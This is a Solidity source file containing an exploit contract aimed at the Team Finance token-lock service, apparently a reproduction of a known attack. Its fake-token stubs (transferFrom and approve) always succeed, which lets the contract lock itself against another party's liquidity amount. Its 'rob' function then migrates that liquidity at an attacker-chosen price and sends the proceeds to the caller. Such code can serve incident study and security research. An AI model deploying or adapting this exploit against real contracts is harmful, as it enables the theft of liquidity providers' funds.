// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface ILock {
    struct Migration {
        address pair;
        uint256 liquidity;
        uint8 percentage;
        address token0;
        address token1;
        uint24 fee;
        int24 tickLower;
        int24 tickUpper;
        uint256 amount0Min;
        uint256 amount1Min;
        address recipient;
        uint256 deadline;
        bool refundAsETH;
    }

    function lockToken(address token, address withdrawer, uint256 amount, uint256 unlockTime, bool mintNft)
        external
        payable
        returns (uint256);
    function migrate(
        uint256 id,
        Migration calldata params,
        bool noLiquidity,
        uint160 sqrtPriceX96,
        bool mintNft
    ) external;
}

interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// Team Finance: a worthless token (this) is locked in the amount of somebody else's liquidity, and by that lock the
/// other's liquidity is migrated, into a pool at a price of the attacker's; what does not fit is paid to it.
contract LockMigrator {
    mapping(address => uint256) public balanceOf;
    uint256 private id;

    function lock(address team, address pair) external payable {
        id = ILock(team).lockToken{value: msg.value}(
            address(this), address(this), IERC20(pair).balanceOf(team), block.timestamp + 40_000, false
        );
    }

    function rob(address team, address pair, address token0, address token1) external {
        ILock.Migration memory params = ILock.Migration(
            pair,
            IERC20(pair).balanceOf(team),
            1,
            token0,
            token1,
            500,
            -100,
            100,
            0,
            0,
            address(this),
            block.timestamp,
            false
        );
        ILock(team).migrate(id, params, true, 79_210_883_607_084_793_911_461_085_816, false);
        IERC20(token0).transfer(msg.sender, IERC20(token0).balanceOf(address(this)));
        IERC20(token1).transfer(msg.sender, IERC20(token1).balanceOf(address(this)));
    }

    function transferFrom(address, address to, uint256 amount) external returns (bool) {
        balanceOf[to] += amount;
        return true;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }

    receive() external payable {}
}
